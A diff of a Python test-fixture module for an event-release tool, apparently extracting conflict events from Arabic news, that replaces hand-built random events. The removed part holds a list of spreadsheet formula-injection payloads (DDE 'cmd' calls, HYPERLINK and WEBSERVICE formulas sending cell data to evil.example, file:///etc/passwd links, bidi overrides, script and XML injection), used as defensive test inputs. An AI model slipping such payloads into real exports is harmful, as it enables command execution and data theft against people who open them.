@@ -1,118 +1,158 @@
-"""Made-up events to write releases of: every field filled somewhere and empty somewhere, Arabic and hostile text among them."""
+"""Events built by hand, and drawn at random, for the tests of releases."""
 
 import datetime as dt
 import random
-from collections.abc import Sequence
+from typing import Any
 
-from waqai.release.values import Actor, Event, Evidence, Facts, Figure, Ruling, Site, Source, Toll
-from waqai.score import FAMILY
+from waqai.model import SIZE
+from waqai.release.values import Actor, Event, Evidence, Facts, Figure, Site, Source, Toll
 
 FACTS = Facts(
-    profile="public",
-    policy="public-v1",
-    policy_hash="ab" * 32,
-    program="waqai 0.1.0",
-    knowledge="cd" * 32,
-    decisions_head="ef" * 32,
-    made=dt.datetime(2024, 6, 1, 12, 30, 15, tzinfo=dt.UTC),
-    note="Claims as a program read them, not verified facts.",
-)
-_TYPES = tuple(FAMILY)
-_PLACES = (("Idlib", "SY", "SY-ID", 35.93, 36.63), ("Marib", "YE", "YE-MA", 15.47, 45.32), ("Tripoli", "LY", "LY-TB", 32.89, 13.18))
-_PARTIES = (("sy-regime", "Syrian army", "state_forces", "SY"), ("ye-houthis", "Houthis", "rebel_group", "YE"))
-_TEXT = "قصفت طائرات حربية أطراف البلدة مساء الاثنين، وقُتل ثلاثة مدنيين بينهم طفلان، بحسب مصادر طبية في المشفى الوحيد"
+    profile="public", policy="public-v1", policy_hash="0" * 64, program="waqai 0.1.0", knowledge="000000000000", decisions_head="",
+    made=dt.datetime(2024, 6, 1, 12, tzinfo=dt.UTC), note="A release for tests.",
+)  # fmt: skip
+ARMY = Actor("sy-army", "Syrian Arab Army", "state_forces", "SY", "SY")
+REBELS = Actor("sy-jaysh-al-izza", "Jaysh al-Izza", "rebel_group", "SY", "sy-jaysh-al-izza")
+SDF = Actor("sy-sdf", "Syrian Democratic Forces", "rebel_group", "SY", "sdf")
+RUSSIA = Actor("ru-air-force", "Russian Aerospace Forces", "state_forces", "RU", "RU")
+HOUTHIS = Actor("ye-houthis", "Houthis", "rebel_group", "YE", "houthi")
+SETTLERS = Actor("il-israeli-settlers", "Israeli settlers", "rioters", "IL", "IL")
+CIVILIANS = Actor(None, None, "civilians", "SY", None)
+GUNMEN = Actor(None, None, "unknown", None, None)
+BINNISH = Site("Binnish", "settlement", "SY", "SY-ID", "Idlib", "Idlib", 35.9581, 36.7121, 171_000)
+TYPES = (
+    "clash", "air_strike", "drone_strike", "shelling", "bombing", "chemical_attack", "assassination", "execution", "attack_on_civilians",
+    "sexual_violence", "abduction", "arrest", "release", "siege", "destruction", "forced_recruitment", "corruption", "defection",
+    "territory", "deployment", "protest", "riot", "agreement", "displacement", "aid", "seizure", "toll",
+)  # fmt: skip
+MODALITIES = ("actual", "planned", "ordered", "denied", "failed", "alleged")
+CLASSES = (
+    "state_forces", "rebel_group", "political_militia", "identity_militia", "rioters", "protesters", "civilians", "external_forces",
+    "unknown",
+)  # fmt: skip
+OUTCOMES = ("killed", "injured", "detained", "displaced", "participants")
+WORDS = (
+    "قتلى", "عشرات القتلى", "مقتل ثلاثة مدنيين", "ضحايا", "عدد من القتلى", "لا يقل عن 20 قتيلا", "بضعة عناصر", "مئات القتلى", "قتيل", None,
+)  # fmt: skip
+KINDS = ("official", "armed_group", "media", "monitor", "un_ngo", "medical", "witness", "local", "unnamed", "social_media", None)
 
-_RULING = Ruling(1, "2024-05-31T10:00:00Z", "reviewer", "accept", f"{'0' * 64}:1-4:shelling", "read twice")
+
+def day(text: str) -> dt.date:
+    return dt.date.fromisoformat(text)
 
 
-def make_event(number: int, seed: int = 0) -> Event:
-    """One event, the same for the same number and seed."""
-    chance = random.Random(number * 1009 + seed)
-    name, country, admin1, lat, lon = chance.choice(_PLACES)
-    first = dt.date(2023, 1, 1) + dt.timedelta(days=chance.randrange(500))
-    sources = tuple(_source(number, at, first, chance) for at in range(chance.randint(1, 2)))
-    low = chance.randint(1, 9)
-    has_site = chance.random() < 0.9
+def killed(number: int, who: str = "unknown", report: str = "r1", **more: Any) -> Toll:
+    """A toll of so many dead; `low`, `high` and `text` may differ."""
+    return Toll("killed", who, more.get("low", number), number, more.get("high", number), report, more.get("text"))
+
+
+def figure(outcome: str, low: int, best: int, high: int | None, disputed: bool = False) -> Figure:
+    return Figure(outcome, low, best, high, disputed)
+
+
+def report(name: str = "r1", **more: Any) -> Source:
+    """A report by an outlet of its own, printed on 17 February 2023."""
+    number = name[1:]
+    told: dict[str, Any] = {"document": f"d{number}", "voice": f"v{number}", "outlet": f"outlet{number}", "published": day("2023-02-17")}
+    return Source(name, **(told | more))
+
+
+def showing(words: str) -> Source:
+    """A report that shows the words of its act."""
+    return report(evidence=(Evidence("type", 0, len(words), words),))
+
+
+def event(type_: str = "clash", **more: Any) -> Event:
+    """An event of 16 February 2023 in Binnish, between the army and rebels, told by one report."""
+    told: dict[str, Any] = {
+        "id": "e1", "type": type_, "modality": "actual", "grade": "Fair", "status": "unreviewed", "start": day("2023-02-16"),
+        "end": None, "actor": ARMY, "target": REBELS, "site": BINNISH, "figures": (), "tolls": (), "sources": (report(),),
+        "origins": 1, "articles": 1, "confidence": 0.9,
+    }  # fmt: skip
+    told |= more
+    if "tolls" in more and "figures" not in more:
+        by_report: dict[str, int] = {}
+        for toll in more["tolls"]:
+            if toll.outcome == "killed":
+                by_report[toll.report] = by_report.get(toll.report, 0) + toll.best
+        if by_report:
+            told["figures"] = (Figure("killed", min(by_report.values()), max(by_report.values()), max(by_report.values()), False),)
+    told["end"] = told["end"] or told["start"]
+    return Event(**told)
+
+
+def random_event(rng: random.Random, number: int) -> Event:
+    """Any event: every field may have every value that it may have."""
+    reports = [f"r{n}" for n in range(rng.randint(1, 4))]
+    start = dt.date(2015, 1, 1) + dt.timedelta(days=rng.randint(0, 3600))
+    length = rng.choice((0, 0, 0, 0, 1, 3, 6, 9, 29, 30, 200, 500))
+    tolls = []
+    for one in reports:
+        for _ in range(rng.randint(0, 2)):
+            low = rng.choice((0, 1, 2, 2, 3, 5, 20, 20, 51, 200))
+            text = rng.choice(WORDS)
+            high = None if text is not None and rng.random() < 0.5 else low + rng.choice((0, 0, 4))
+            who = rng.choice(("civilians", "combatants", "mixed", "unknown"))
+            tolls.append(Toll(rng.choice(OUTCOMES), who, low, low, high, one, text))
+    figures = []
+    for outcome in sorted({toll.outcome for toll in tolls}):
+        numbers = [toll for toll in tolls if toll.outcome == outcome]
+        highs = [toll.high for toll in numbers if toll.high is not None]
+        top = max(highs) if len(highs) == len(numbers) else None
+        low = min(toll.low for toll in numbers)
+        figures.append(Figure(outcome, low, numbers[0].best, top if top is None else max(top, numbers[0].best), rng.random() < 0.1))
+    known = rng.random() < 0.95
     return Event(
-        id=f"{number:08x}{seed:04x}",
-        type=chance.choice(_TYPES),
-        modality=chance.choice(("actual", "actual", "actual", "denied", "planned")),
-        grade=chance.choice(("Fair", "Weak", "Contested", None)),
-        status=chance.choice(("unreviewed", "accepted", "corrected")),
-        start=first if chance.random() < 0.9 else None,
-        end=first + dt.timedelta(days=chance.randint(0, 3)) if chance.random() < 0.9 else None,
-        actor=Actor(*chance.choice(_PARTIES), "SY", "قوات النظام") if chance.random() < 0.7 else None,
-        target=Actor(None, None, "civilians", None, None, "مدنيين") if chance.random() < 0.6 else None,
-        site=Site(name, "settlement", country, admin1, "Idlib", "Harem", lat, lon, 169_389, "إدلب") if has_site else None,
-        figures=(Figure("killed", low, low + 1, None if low == 5 else low + 3, low == 4), Figure("injured", 2, 2, 2, False)),
-        tolls=(Toll("killed", "civilians", low, low, low + 3, sources[0].report, "ثلاثة مدنيين"),),
-        sources=sources,
-        origins=len(sources),
-        articles=len(sources) + 1,
-        confidence=round(chance.random(), 4),
-        decided=number if number % 7 == 0 else 0,
-        rulings=(_RULING._replace(number=number),) if number % 7 == 0 else (),
-        level=chance.choice(("L-A", "L-B")),
-        withheld=("place", "date") if number % 5 == 0 else (),
+        id=f"{number:016x}",
+        type=rng.choice(TYPES),
+        modality=rng.choices(MODALITIES, (80, 4, 4, 4, 4, 4))[0],
+        grade=rng.choice(("Confirmed", "Fair", "Weak", "Contested", None)),
+        status="unreviewed",
+        start=start if known else None,
+        end=start + dt.timedelta(days=length) if known else None,
+        actor=random_actor(rng),
+        target=random_actor(rng),
+        site=random_site(rng),
+        figures=tuple(figures) if rng.random() < 0.9 else (),
+        tolls=tuple(tolls),
+        sources=tuple(_random_source(rng, one, start, length) for one in reports),
+        origins=len(reports),
+        articles=len(reports),
+        confidence=0.5,
     )
 
 
-def _source(number: int, at: int, day: dt.date, chance: random.Random) -> Source:
-    report = f"{number:06x}{at:02x}"
-    document = f"{number % 5000:064x}"
-    words = _TEXT.split()
-    evidence = [Evidence("sentence", 100, 100 + len(_TEXT), _TEXT)]
-    for field in ("actor", "target", "place", "time"):
-        word = chance.choice(words)
-        start = 100 + _TEXT.index(word)
-        evidence.append(Evidence(field, start, start + len(word), word))
+def random_actor(rng: random.Random) -> Actor | None:
+    draw = rng.random()
+    if draw < 0.15:
+        return None
+    if draw < 0.7:
+        return rng.choice((ARMY, REBELS, SDF, RUSSIA, HOUTHIS, SETTLERS, CIVILIANS, GUNMEN))
+    return Actor(None, rng.choice((None, "A group")), rng.choice(CLASSES), rng.choice((None, "SY", "IQ", "IL", "PS", "XX")), None)
+
+
+def random_site(rng: random.Random) -> Site | None:
+    draw = rng.random()
+    if draw < 0.05:
+        return None
+    if draw < 0.5:
+        return BINNISH
+    pointed = rng.random() < 0.8
+    return Site(
+        rng.choice((None, "Somewhere", "Elsewhere")), rng.choice(tuple(SIZE)), rng.choice(("SY", "IQ", "YE", "PS", "GB", None)),
+        rng.choice((None, "SY-ID", "SY-HM")), rng.choice((None, "Idlib")), rng.choice((None, "Harim")),
+        round(rng.uniform(-90, 90), 6) if pointed else None, round(rng.uniform(-180, 180), 6) if pointed else None,
+        text=rng.choice((None, "قرب بنش", "مدينة بنش")),
+    )  # fmt: skip
+
+
+def _random_source(rng: random.Random, name: str, start: dt.date, length: int) -> Source:
+    first = start + dt.timedelta(days=rng.randint(0, length))
+    words = rng.choice(("هجوم انتحاري", "انسحبت من", "قنبلة يدوية", "مقبرة جماعية", "قصف", "نقطة عسكرية"))
     return Source(
-        report=report,
-        document=document,
-        voice=f"origin {at}",
-        outlet=f"outlet{number % 5000 % 40}.example",
-        url=f"https://outlet{number % 5000 % 40}.example/news/{number % 5000}",
-        title=f"قصف على البلدة {number % 5000}",
-        published=dt.date(2024, 1, 1) + dt.timedelta(days=number % 5000 % 100),
-        start=day,
-        end=day,
-        when="مساء الاثنين",
-        attribution="مصادر طبية" if at else None,
-        attribution_kind="medical" if at else None,
-        evidence=tuple(evidence),
-        claims=(f"{document}:1-4:shelling",),
-    )
-
-
-def make_events(count: int, seed: int = 0) -> list[Event]:
-    """So many events."""
-    return [make_event(number, seed) for number in range(count)]
-
-
-# What has run as a formula, led out of a file, broken a row or turned a line: beginnings and wholes.
-_BEGIN = (
-    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u200f=", "\u202e=", "\ufeff=", "\u00a0=", "＝", "＋", "－", "＠",
-    "\x00=", '"=', "'=", ";=",
-)  # fmt: skip
-_CALLS = (
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("https://evil.example/?"&A1,"قصف")',
-    'WEBSERVICE("https://evil.example/")',
-    'IMPORTXML("https://evil.example/","//a")',
-    "'file:///etc/passwd'#$Sheet1.A1",
-    "[https://evil.example/x.xlsx]Sheet1!A1",
-    "DDE(\"cmd\";\"/C calc\";\"x\")",
-    "SUM(A1:A9)*cmd|'x'!A1",
-    "-2+3+cmd|' /C notepad'!'A1'",
-    'IMAGE("https://evil.example/x.png")',
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-)
-_OTHERS = (
-    "https://evil.example/", "file:///etc/passwd", "mailto:a@evil.example", "\\\\evil.example\\share", "internal:Sheet2!A1",
-    "external:c:\\x.xlsx", "{=1+1}", "_x003D_1+1", "%0A=1+1", 'a","=1+1', 'a\r\n=1+1,"b', "a\t=1+1", "a\u2028=1+1", "a\x0b=1+1",
-    "a\x85=1+1", "\u202egnp.exe", "قتل \u202eثلاثة\u202c مدنيين", "\u2067عكس\u2069", "<script>alert(1)</script>", "]]><c><f>1+1</f></c>",
-    "</t></is></c><c><f>1+1</f></c>", "&lt;f&gt;", "SYLK ID;P", "|cmd", "%1", "#REF!", "TRUE", "00123", "1e5", "2024-05-31", "1/2",
-    "\ufffe", "\x1b[31m", "a" * 40_000, "😀" * 20_000, "'", '"', "''", "", "\u200b", "sep=;",
-)  # fmt: skip
-PAYLOADS: Sequence[str] = tuple(dict.fromkeys([*(begin + call for begin in _BEGIN for call in _CALLS), *_BEGIN, *_OTHERS]))
+        name, f"doc{rng.randint(1, 9)}", f"voice{rng.randint(1, 3)}", rng.choice((None, "Reuters", "SANA", "enabbaladi.net", "a; b")),
+        title=rng.choice((None, 'He said "no"; then left')), published=rng.choice((None, start + dt.timedelta(days=rng.randint(0, 3)))),
+        start=rng.choice((None, first)), end=first, when=rng.choice((None, "على مدى يومين", "الخميس")),
+        attribution=rng.choice((None, "مصادر محلية")), attribution_kind=rng.choice(KINDS),
+        evidence=(Evidence("type", 3, 3 + len(words), words),) if rng.random() < 0.5 else (),
+    )  # fmt: skip
